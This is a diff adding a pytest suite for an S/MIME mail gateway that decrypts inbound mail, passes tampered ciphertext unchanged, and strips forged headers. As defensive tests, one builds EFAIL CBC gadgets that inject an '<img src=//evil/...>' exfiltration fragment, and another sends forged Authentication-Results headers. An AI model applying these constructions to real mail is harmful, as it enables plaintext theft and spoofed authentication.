@@ -1,0 +1,335 @@
+"""Mail that comes in: opened with keys that only the keeper has, or passed as it was sent. What is opened was made by
+openssl; what arrives is compared with what was given to openssl."""
+import email.utils
+import re
+import smtplib
+import subprocess
+
+import pytest
+
+import messages
+import people
+import world as sandbox
+
+SETTINGS = 'networks { "192.0.2.0/24" }\n'
+RULES = """
+receive sender domain "old.example"            open old ciphers
+receive sender domain "closed.example"         pass
+receive sender domain "marked.example"         open mark encrypted "[was encrypted]"
+receive any                                    open
+
+match sender "hr@example.com"                  deliver pickup
+match recipient domain "smime.example"         deliver smime hide subject
+otherwise                                      deliver plain
+"""
+
+STRANGER = "bob@partner.example"
+
+
+def prepare(world):
+    sandbox.command("postconf", "-c", world.company.config, "smtpd_authorized_xclient_hosts=127.0.0.0/8")
+    sandbox.command("postfix", "-c", world.company.config, "reload")
+
+
+class Outside:
+    """Somebody outside, who writes to employees."""
+
+    def __init__(self, world, post):
+        self.world, self.post = world, post
+
+    def mail(self, entity, to, sender=STRANGER, subject="Hello", fields=(), author=None):
+        """A message around a MIME entity."""
+        head = [*fields, f"From: {author or f'<{sender}>'}", f"To: {', '.join(to)}", f"Subject: {subject}",
+                f"Message-ID: {email.utils.make_msgid(domain='partner.example')}", f"Date: {email.utils.formatdate()}",
+                "MIME-Version: 1.0"]
+        return "\r\n".join(head).encode() + b"\r\n" + entity
+
+    def send(self, message, to, sender=STRANGER, client="203.0.113.5", login=None):
+        with smtplib.SMTP("127.0.0.1", self.world.ports["submission"]) as smtp:
+            smtp.ehlo()
+            attributes = f"ADDR={client}" + (f" LOGIN={login}" if login else "")
+            code, text = smtp.docmd("XCLIENT", attributes)
+            assert code == 220, text
+            smtp.ehlo()
+            code, text = smtp.mail(sender, ["BODY=8BITMIME"])
+            assert code == 250, text
+            for address in to:
+                code, text = smtp.rcpt(address)
+                assert code == 250, text
+            code, text = smtp.data(message)
+            assert code == 250, text
+
+    def sent(self, entity, to, **options):
+        """Sends the entity, and returns what reaches each mailbox."""
+        to = [to] if isinstance(to, str) else to
+        around = {k: options.pop(k) for k in ("client", "login") if k in options}
+        message = self.mail(entity, to, **options)
+        self.send(message, to, sender=options.get("sender", STRANGER), **around)
+        mails = [self.post.box(address).one() for address in to]
+        return (message, *mails)
+
+
+@pytest.fixture
+def outside(world, post):
+    return Outside(world, post)
+
+
+def employee(world, address, **issue):
+    """An employee whose private key the keeper has; returns the path of the certificate."""
+    path = people.certify(world, address, **issue)
+    base = path.with_suffix("")
+    both = base.with_suffix(".both")
+    both.write_text(path.read_text() + base.with_suffix(".key").read_text())
+    world.postseal("key", "import", both)
+    return path
+
+
+def envelope(entity, *certificates, options=("-aes-256-cbc",), form="SMIME"):
+    """What openssl makes of an entity: a MIME entity again, or DER."""
+    made = sandbox.command("openssl", "cms", "-encrypt", "-binary", *options, "-outform", form, *certificates, input=entity)
+    return as_entity(made) if form == "SMIME" else made
+
+
+def as_entity(made):
+    """openssl's output as it travels: CRLF, and without its MIME-Version, which the message has."""
+    lines = re.sub(rb"\r?\n", b"\r\n", made)
+    return re.sub(rb"^MIME-Version: 1\.0\r\n", b"", lines)
+
+
+def pkcs7(der, kind="enveloped-data"):
+    return (f'Content-Type: application/pkcs7-mime; smime-type={kind}; name="smime.p7m"\r\n'
+            'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="smime.p7m"\r\n\r\n').encode() \
+        + messages.base64_lines(der)
+
+
+TEXT = b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGr\xc3\xbc\xc3\x9fe, the secret is 42.\r\n"
+
+
+def arrived(mail):
+    """The entity of a mail in a Maildir, with CRLF."""
+    return people.entity_of(re.sub(rb"\r?\n", b"\r\n", mail.raw))
+
+
+CIPHERS = {"CBC": ("-aes-256-cbc",), "CBC 128": ("-aes-128-cbc",), "GCM": ("-aes-256-gcm",),
+           "in pieces, BER": ("-aes-256-cbc", "-stream"), "by key identifier": ("-aes-256-cbc", "-keyid"),
+           "OAEP": ("-aes-256-cbc", "-keyopt", "rsa_padding_mode:oaep"),
+           "OAEP with SHA-256": ("-aes-256-cbc", "-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256")}
+
+
+@pytest.mark.parametrize("how", CIPHERS)
+def test_enveloped_mail_is_opened_to_the_bytes_that_were_sealed(world, post, outside, name, how):
+    """Promise 4, the other way round."""
+    address = f"{name}@example.com"
+    certificate = employee(world, address)
+    cipher, *options = CIPHERS[how]
+    sealed = envelope(TEXT, "-recip", certificate, *options, options=(cipher,))
+    message, mail = outside.sent(sealed, address)
+    assert arrived(mail) == TEXT
+    assert mail["Subject"] == "Hello"
+    copy = post.copies(address)[0]
+    assert copy["method"] == "open" and len(copy["keys"]) == 64
+
+
+@pytest.mark.parametrize("curve", ["P-256", "P-384", "P-521"])
+def test_key_agreement_is_opened(world, post, outside, name, curve):
+    address = f"{name}@example.com"
+    certificate = employee(world, address, key=("-newkey", "ec", "-pkeyopt", f"ec_paramgen_curve:{curve}"))
+    for options in (("-aes-256-gcm",), ("-aes-128-cbc", "-keyid")):
+        sealed = envelope(TEXT, certificate, options=options)
+        outside.send(outside.mail(sealed, [address]), [address])
+    mails = post.box(address).wait(2)
+    assert [arrived(mail) for mail in mails] == [TEXT, TEXT]
+
+
+def test_every_structure_comes_out_as_it_went_in(world, post, outside, name):
+    """Promise 4."""
+    address = f"{name}@example.com"
+    certificate = employee(world, address)
+    # CBC without a signature: bytes of no charset cannot be told from those that somebody has changed.
+    sent = {kind: b"Content-Type: " + content + b"\r\n\r\n" + body
+            for kind, content, body in messages.STRUCTURES if kind != "big attachment"}
+    for kind, entity in sent.items():
+        outside.send(outside.mail(envelope(entity, certificate, options=("-aes-256-gcm",)), [address], subject=kind), [address])
+    got = {mail["Subject"]: arrived(mail) for mail in post.box(address).wait(len(sent))}
+    for kind, entity in sent.items():
+        assert got[kind] == (entity if entity.endswith(b"\r\n") else entity + b"\r\n"), kind
+    assert {copy["method"] for copy in post.copies(address)} == {"open"}
+
+
+def test_only_those_whose_key_opens_it_get_it_opened(world, post, outside, name):
+    """Promises 1 to 3 for mail that comes in: everybody gets one copy, and nobody reads what is not for them."""
+    reader, other, guest = f"{name}a@example.com", f"{name}b@example.com", f"{name}@plain.example"
+    certificate = employee(world, reader)
+    employee(world, other)
+    sealed = envelope(TEXT, certificate)
+    message, opened, closed, relayed = outside.sent(sealed, [reader, other, guest])
+    assert arrived(opened) == TEXT
+    assert arrived(closed) == arrived(relayed) == people.entity_of(message)
+    assert [post.copies(a)[0]["method"] for a in (reader, other, guest)] == ["open", "pass", "plain"]
+    assert "encrypted for other keys" in post.copies(other)[0]["reason"]
+    for address in (reader, other, guest):
+        post.box(address).one()
+
+
+def test_same_message_for_two_readers_is_decrypted_for_both(world, post, outside, name):
+    first, second = f"{name}a@example.com", f"{name}b@example.com"
+    sealed = envelope(TEXT, employee(world, first), employee(world, second))
+    _, one, two = outside.sent(sealed, [first, second])
+    assert arrived(one) == arrived(two) == TEXT
+    keys = {post.copies(a)[0]["keys"] for a in (first, second)}
+    assert len(keys) == 2
+
+
+def changed(der, at):
+    return der[:at] + bytes([der[at] ^ 1]) + der[at + 1:]
+
+
+def gcm_as_enveloped(entity, certificate):
+    """AES-GCM within EnvelopedData, as no standard allows: its tag is missing."""
+    der = envelope(entity, certificate, options=("-aes-256-gcm",), form="DER")
+    # id-ct-authEnvelopedData becomes enveloped-data, as long in the text of the mail's type only
+    return pkcs7(der.replace(bytes.fromhex("060b2a864886f70d0109100117"), bytes.fromhex("060b2a864886f70d0109100107")))
+
+
+BROKEN = {
+    "another cipher": lambda certificate: envelope(TEXT, certificate, options=("-des3",)),
+    "a bit of the ciphertext": lambda certificate: pkcs7(changed(envelope(TEXT, certificate, form="DER"), -40)),
+    "a bit under GCM": lambda certificate: pkcs7(changed(envelope(TEXT, certificate, options=("-aes-256-gcm",), form="DER"), -40)),
+    "the tag of GCM": lambda certificate: pkcs7(changed(envelope(TEXT, certificate, options=("-aes-256-gcm",), form="DER"), -3)),
+    "GCM without authentication": lambda certificate: gcm_as_enveloped(TEXT, certificate),
+    "the encrypted key": lambda certificate: pkcs7(changed(der := envelope(TEXT, certificate, form="DER"), der.index(bytes.fromhex("04820100")) + 60)),
+    "bytes behind": lambda certificate: pkcs7(envelope(TEXT, certificate, form="DER") + b"Hello"),
+    "no entity": lambda certificate: envelope(b"Just text.\r\n", certificate),
+}
+
+
+@pytest.mark.parametrize("what", BROKEN)
+def test_what_cannot_be_opened_passes_byte_for_byte(world, post, outside, name, what):
+    address = f"{name}@example.com"
+    sealed = BROKEN[what](employee(world, address))
+    message, mail = outside.sent(sealed, address)
+    assert arrived(mail) == people.entity_of(message)
+    assert post.copies(address)[0]["method"] == "pass"
+
+
+def test_efail_gadgets_in_cbc_are_not_shown(world, post, outside, name):
+    """EFAIL (Poddebniak et al. 2018, §4): a known block and two chosen ones make a block of the attacker's, beside a
+    block of random bytes."""
+    address = f"{name}@example.com"
+    entity = b"Content-Type: text/html; charset=utf-8\r\n\r\n" + b"<p>" + b"The secret is 42. " * 40 + b"</p>\r\n"
+    der = envelope(entity, employee(world, address), form="DER")
+    cipher_length = (len(entity) // 16 + 1) * 16
+    at = len(der) - cipher_length
+    blocks = [der[at + i:at + i + 16] for i in range(0, cipher_length, 16)]
+    known = entity[16:32]  # decrypts from blocks[1] with blocks[0]
+    for number, wanted in enumerate((b'<img ignore="1234', b'" src=//evil/?aa')):
+        mask = bytes(a ^ b ^ c for a, b, c in zip(blocks[0], known, wanted[:16]))
+        blocks[10 + 4 * number:12 + 4 * number] = [mask, blocks[1]]
+    sealed = pkcs7(der[:at] + b"".join(blocks))
+    message, mail = outside.sent(sealed, address)
+    assert arrived(mail) == people.entity_of(message)
+    # openssl shows what was made of it
+    shown = subprocess.run(["openssl", "cms", "-decrypt", "-binary", "-recip", world.directory / "keys" / f"{name}-example-com.pem",
+                            "-inkey", world.directory / "keys" / f"{name}-example-com.key"], input=mail.raw, capture_output=True)
+    assert b'<img ignore="123' in shown.stdout
+
+
+def test_old_ciphers_only_by_rule(world, post, outside, name):
+    address = f"{name}@example.com"
+    sealed = envelope(TEXT, employee(world, address), options=("-des3",))
+    _, mail = outside.sent(sealed, address, sender="bob@old.example")
+    assert arrived(mail) == TEXT
+    assert "3DES-CBC" in post.copies(address)[0]["reason"]
+
+
+def test_layers_within_one_another_are_opened(world, post, outside, name):
+    address = f"{name}@example.com"
+    certificate = employee(world, address)
+    sealed = TEXT
+    for _ in range(3):
+        sealed = envelope(sealed, certificate)
+    _, mail = outside.sent(sealed, address)
+    assert arrived(mail) == TEXT
+
+
+def test_rule_says_that_mail_passes(world, post, outside, name):
+    address = f"{name}@example.com"
+    sealed = envelope(TEXT, employee(world, address))
+    message, mail = outside.sent(sealed, address, sender="bob@closed.example")
+    assert arrived(mail) == people.entity_of(message)
+    assert post.copies(address)[0]["method"] == "pass"
+
+
+@pytest.mark.parametrize("sender,client,login,method", [
+    ("hr@example.com", "192.0.2.7", None, "pickup"),      # one of ours, and its rule
+    ("hr@example.com", "203.0.113.5", "hr@example.com", "pickup"),
+    ("hr@example.com", "203.0.113.5", None, "pass"),      # a stranger who uses a colleague's address
+    ("bob@partner.example", "192.0.2.7", None, "pass"),   # a relay of ours that hands over mail from outside
+    ("bob@partner.example", "203.0.113.5", None, "pass"),
+])
+def test_sender_alone_does_not_make_mail_ours(world, post, outside, name, sender, client, login, method):
+    address = f"{name}@example.com"
+    outside.send(outside.mail(TEXT, [address], sender=sender), [address], sender=sender, client=client, login=login)
+    assert post.copies(address)[0]["method"] == method
+
+
+FORGED = ["Authentication-Results: gateway.example.com; smime=pass",
+          "authentication-results: GATEWAY.example.com; smime=pass",
+          "Authentication-Results:\r\n gateway.example.com;\r\n\tsmime=pass",
+          "Authentication-Results: (a (nested \\) comment)) gateway.example.com (x) 1 ; smime=pass",
+          'Authentication-Results: "gateway.example.com"; smime=pass',
+          'Authentication-Results: "gate\\way.example.com"; smime=pass',
+          "Authentication-Results: gateway.example.com.; smime=pass",
+          "Authentication-Results: (never ends gateway.example.com; smime=pass"]
+
+
+def test_forged_results_are_removed(world, post, outside, name):
+    """RFC 8601 §5."""
+    address = f"{name}@example.com"
+    kept = "Authentication-Results: mx.partner.example; spf=pass (gateway.example.com) smtp.mailfrom=b@c.example"
+    message, mail = outside.sent(TEXT, address, fields=[*FORGED, kept, "X-Postseal-Login: forged"])
+    assert mail.fields("Authentication-Results") == [kept.partition(": ")[2]]
+    assert not mail.fields("X-Postseal-Login")
+    assert arrived(mail) == people.entity_of(message)
+
+
+def test_tags_of_ours_are_removed_before_one_is_written(world, post, outside, name):
+    address = f"{name}@example.com"
+    certificate = employee(world, address)
+    cases = (("bob@marked.example", envelope(TEXT, certificate), "[was encrypted] Offer"),
+             ("bob@marked.example", TEXT, "Offer"), (STRANGER, TEXT, "Offer"))
+    for sender, entity, _ in cases:
+        outside.send(outside.mail(entity, [address], sender=sender, subject="[was encrypted] =?utf-8?q?=5BWAS_encrypted=5D?= Offer"),
+                     [address], sender=sender)
+    assert sorted(mail["Subject"] for mail in post.box(address).wait(3)) == sorted(wanted for _, _, wanted in cases)
+
+
+def test_subject_that_travelled_inside_is_shown(world, post, outside, name):
+    """Header protection (RFC 9788): what another gateway of this kind sends is its own counterpart."""
+    address = f"{name}@example.com"
+    certificate = employee(world, address)
+    entity = (b'Content-Type: text/plain; charset=utf-8; protected-headers="v1"; hp="cipher"\r\nSubject: The real one\r\n'
+              b"HP-Outer: Subject: [...]\r\n\r\nHello.\r\n")
+    _, mail = outside.sent(envelope(entity, certificate), address, subject="[...]")
+    assert mail["Subject"] == "The real one" and mail.body == b"Hello.\n"
+
+
+def test_opened_record_is_kept_when_the_message_is_offered_again_without_the_keeper(world, post, outside, name):
+    """Promise 1: without the keeper, what may be encrypted for somebody waits."""
+    address = f"{name}@example.com"
+    sealed = envelope(TEXT, employee(world, address))
+    message = outside.mail(sealed, [address])
+    world.stop_program("postseal-keeper")
+    try:
+        with pytest.raises(AssertionError, match="451|4.7.0|cannot be secured"):
+            outside.send(message, [address])
+    finally:
+        world.start_program("postseal-keeper")
+    outside.send(message, [address])
+    assert arrived(post.box(address).one()) == TEXT
+
+
+def test_explain_says_what_would_happen_to_mail_that_comes_in(world, name):
+    said = world.postseal("policy", "explain", "--inbound", "--from", "hr@example.com", "--to", f"{name}@example.com")
+    assert "receive any" in said and "=> pass" in said
+    assert "=> pickup" in world.postseal("policy", "explain", "--from", "hr@example.com", "--to", f"{name}@example.com")
